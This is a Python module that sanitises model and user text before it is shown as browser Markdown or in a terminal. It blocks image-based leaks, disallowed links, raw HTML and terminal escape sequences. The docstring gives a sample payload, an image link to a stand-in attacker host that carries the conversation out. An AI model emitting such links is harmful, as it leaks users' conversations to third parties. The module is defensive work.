"""Make model (and user) text safe to render as Markdown in a browser.

A reply rendered as Markdown can carry ``![x](https://attacker/?q=<the conversation>)``: the
browser fetches the image the moment it is shown, and the conversation leaks without a click.
Before anything is rendered, :func:`sanitize_markdown` therefore

- turns every image (Markdown, reference-style or an HTML tag) into a short text note;
- keeps links only to allow-listed hosts (and ``mailto:``); other links keep their words and lose
  their target; bare URLs to other hosts are shown as code so they are not auto-linked;
- makes any remaining HTML literal text and escapes ``$`` so prices are not read as LaTeX.

HTML entities are decoded first (``&colon;`` is a colon to the browser, so it is one to the checks
too), reference definitions are found inside blockquotes and list items as well, and any URL-like
text (``scheme://``, ``www.`` in any case, even wrapped in ``_`` or escaped backticks) whose host is
not allowed is shown as code. The page code never passes model or user text with
``unsafe_allow_html``.

:func:`strip_terminal_controls` does the same job for the terminal: the CLI passes everything it
prints through it, so model text cannot clear the screen, set the window title, hide text or plant
OSC-8 hyperlinks.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterable, Iterator
from urllib.parse import urlsplit

from coach.lazy_patterns import lazy_regex

DEFAULT_ALLOWED_HOSTS: frozenset[str] = frozenset({"wikipedia.org"})
"""Hosts (and their subdomains) a link in model output may point to."""

_RESOURCE_TAG = lazy_regex(
    r"<\s*/?\s*(?:img|image|picture|source|video|audio|iframe|object|embed|link|svg|meta|script|style|base)\b"
    r"[^>]*>?",
    re.IGNORECASE,
)
_LINK_TEXT = r"(?:[^\[\]\n]|\[[^\[\]\n]*\])*"
_DESTINATION = r"\(\s*<?(?P<url>[^)\s>]*)>?(?:\s+(?:\"[^\"]*\"|'[^']*'|\([^)]*\)))?\s*\)"
_INLINE_IMAGE = lazy_regex(r"!\[(?P<alt>" + _LINK_TEXT + r")\]" + _DESTINATION)
_INLINE_LINK = lazy_regex(r"\[(?P<text>" + _LINK_TEXT + r")\]" + _DESTINATION)
# A definition may sit inside blockquotes and list items (``> [x]: //host``, ``- [x]: url``).
_REFERENCE_DEFINITION = lazy_regex(
    r"^(?:[ \t]|>|[-*+][ \t]|\d{1,9}[.)][ \t])*\[[^\]\n]+\]:[ \t]*<?(?P<url>[^\s>]*)>?.*$", re.MULTILINE
)
_AUTOLINK = lazy_regex(r"<(?P<url>[a-zA-Z][a-zA-Z0-9+.-]{1,31}:[^\s<>]*)>")
# An inline code span cannot cross a blank line (Markdown ends it there), so neither may the pattern,
# or a URL after the break would be kept as "code" and rendered as a live link.
_CODE = lazy_regex(
    r"^(?P<fence>[ \t]*(?:```|~~~)).*?(?:^(?P=fence)[^\n]*$|\Z)"
    r"|(?<!\\)(?P<ticks>`+)[^`](?:(?!\n[ \t]*\n).)*?(?P=ticks)",  # an escaped backtick opens no span
    re.MULTILINE | re.DOTALL,
)
_HTML_OPEN = lazy_regex(r"<(?=[a-zA-Z/!?])")
# Code spans are vaulted before this runs, so a backtick or underscore next to a URL is plain text
# around a live link (``_http://host_``, ``\\`http://host\\```) and must not protect it.
_BARE_URL = lazy_regex(
    r"(?<![A-Za-z0-9/@])(?:[a-zA-Z][a-zA-Z0-9+.-]*://|www\.)[^\s<>`\\]+[^\s<>`\\.,;:!?'\")\]_*~]", re.IGNORECASE
)
_DOLLAR = lazy_regex(r"(?<!\\)\$")
_PLACEHOLDER = lazy_regex("\x00(\\d+)\x00")
_RISKY = lazy_regex(r"[\[\]!<>()`:$&\\\x00]|www\.", re.IGNORECASE)
_ENTITY_ROUNDS = 4
"""``&amp;colon;`` decodes to ``&colon;``, then to ``:``; a few rounds reach what the browser shows."""
_TERMINAL_SEQUENCE = lazy_regex(
    r"\x1b\[[0-?]*[ -/]*[@-~]"  # CSI: cursor moves, clear screen, colours, conceal (hidden text)
    r"|\x1b[\]PX^_][^\x07\x1b]*(?:\x07|\x1b\\|$)"  # OSC (title, OSC-8 links), DCS, SOS, PM, APC strings
    r"|\x1b[ -/]*[0-~]"  # two-character escapes
)
_TERMINAL_CONTROL = lazy_regex("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
"""Every other C0/C1 control (newline and tab are kept) and the bidi overrides that reorder text."""


def _normalise_hosts(hosts: Iterable[str]) -> frozenset[str]:
    return frozenset(h.strip().lower().lstrip(".") for h in hosts if h.strip())


def is_allowed_url(url: str, allowed_hosts: Iterable[str] = DEFAULT_ALLOWED_HOSTS) -> bool:
    """Whether a link target is ``mailto:`` or http(s) on an allow-listed host or its subdomain."""
    candidate = url.strip()
    if candidate.lower().startswith("www."):
        candidate = "http://" + candidate
    try:
        parts = urlsplit(candidate)
        host = (parts.hostname or "").lower()
    except ValueError:
        return False
    if parts.scheme.lower() == "mailto":
        return True
    if parts.scheme.lower() not in ("http", "https") or not host:
        return False
    allowed = _normalise_hosts(allowed_hosts)
    return any(host == h or host.endswith("." + h) for h in allowed)


class _Vault:
    """Holds pieces of text that later steps must not touch, behind NUL-delimited placeholders."""

    def __init__(self) -> None:
        self.pieces: list[str] = []

    def keep(self, text: str) -> str:
        self.pieces.append(text)
        return f"\x00{len(self.pieces) - 1}\x00"

    def restore(self, text: str) -> str:
        # Pieces may hold placeholders of earlier pieces (a code span around a kept link), so loop.
        while _PLACEHOLDER.search(text):
            text = _PLACEHOLDER.sub(lambda m: self.pieces[int(m.group(1))], text)
        return text


def sanitize_markdown(text: str, allowed_hosts: Iterable[str] = DEFAULT_ALLOWED_HOSTS) -> str:
    """Markdown that cannot make the browser fetch anything, and links only to allowed hosts."""
    allowed = _normalise_hosts(allowed_hosts)
    vault = _Vault()

    def ok(url: str) -> bool:
        return is_allowed_url(url, allowed)

    text = decode_entities(text.replace("\x00", "")).replace("\x00", "")
    text = _RESOURCE_TAG.sub("(image removed)", text)
    text = _INLINE_IMAGE.sub(lambda m: _image_note(m["alt"]), text)
    text = text.replace("![", "!\\[")  # reference-style images become plain text
    text = _REFERENCE_DEFINITION.sub(lambda m: vault.keep(m[0]) if ok(m["url"]) else "", text)
    text = _INLINE_LINK.sub(lambda m: vault.keep(m[0]) if ok(m["url"]) else f"{m['text']} (link removed)", text)
    text = _AUTOLINK.sub(lambda m: vault.keep(m[0]) if ok(m["url"]) else _as_code(m["url"]), text)
    text = text.replace("](", "]\\(")  # deeper-nested link syntax the patterns above did not match
    text = _CODE.sub(lambda m: vault.keep(m[0]), text)
    text = _HTML_OPEN.sub("&lt;", text)
    ticks = "`" * (max((len(run) for run in re.findall("`+", text)), default=0) + 1)  # pairs with no stray tick
    text = _BARE_URL.sub(lambda m: m[0] if ok(m[0]) else f"{ticks}{m[0]}{ticks}", text)
    text = _DOLLAR.sub(r"\\$", text)
    return vault.restore(text)


def decode_entities(text: str) -> str:
    """``text`` with HTML entities decoded the way a browser would see them (nested ones too)."""
    for _ in range(_ENTITY_ROUNDS):
        decoded = html.unescape(text)
        if decoded == text:
            break
        text = decoded
    return text


def strip_terminal_controls(text: str, *, keep_carriage_return: bool = False) -> str:
    """``text`` without escape sequences or control characters a terminal would act on.

    Newlines and tabs stay; ``keep_carriage_return`` keeps carriage returns for the CLI's progress lines.
    """
    text = _TERMINAL_SEQUENCE.sub("", text)
    if keep_carriage_return:
        return "\r".join(_TERMINAL_CONTROL.sub("", part) for part in text.split("\r"))
    return _TERMINAL_CONTROL.sub("", text)


def _image_note(alt: str) -> str:
    words = " ".join(alt.replace("[", " ").replace("]", " ").split())
    return f"(image removed: {words})" if words else "(image removed)"


def _as_code(url: str) -> str:
    return "`" + url.replace("`", "") + "`"


def sanitize_stream(chunks: Iterable[str], allowed_hosts: Iterable[str] = DEFAULT_ALLOWED_HOSTS) -> Iterator[str]:
    """Sanitise a reply while it streams, so not even a half-rendered reply can fetch anything.

    Plain words are released as soon as they are complete. From the first character of a line that
    could start an image, link, URL, HTML tag or formula, the rest of the line is held back until
    the line ends, then sanitised as a whole. Every construct that can fetch or link lives within
    one line once ``![`` and ``](`` are escaped, so sanitising line by line is enough; the caller
    re-renders the finished reply with :func:`sanitize_markdown` anyway.
    """
    allowed = _normalise_hosts(allowed_hosts)
    pending = ""
    for chunk in chunks:
        pending += chunk
        while "\n" in pending:
            line, pending = pending.split("\n", 1)
            yield sanitize_markdown(line, allowed) + "\n"
        cut = _safe_prefix_length(pending)
        if cut:
            yield pending[:cut]
            pending = pending[cut:]
    if pending:
        yield sanitize_markdown(pending, allowed)


def _safe_prefix_length(text: str) -> int:
    risky = _RISKY.search(text)
    end = risky.start() if risky else len(text)
    whitespace = max(text.rfind(" ", 0, end), text.rfind("\t", 0, end))
    return whitespace + 1


def clean_text(text: str) -> str:
    """``text`` with lone surrogates (which no file, database or tokenizer accepts) replaced by U+FFFD."""
    return text if text.isascii() else text.encode("utf-8", "surrogatepass").decode("utf-8", "replace")


def preview(value: object, limit: int = 40) -> str:
    """A short ``repr`` of a value for an error message: a hostile 5,000-character value is not echoed back."""
    try:
        text = repr(value) if not isinstance(value, int) or value.bit_length() < 4000 else "a very long number"
    except ValueError:  # an int too long to print
        text = "a very long number"
    return text if len(text) <= limit else text[: limit - 1] + "…"
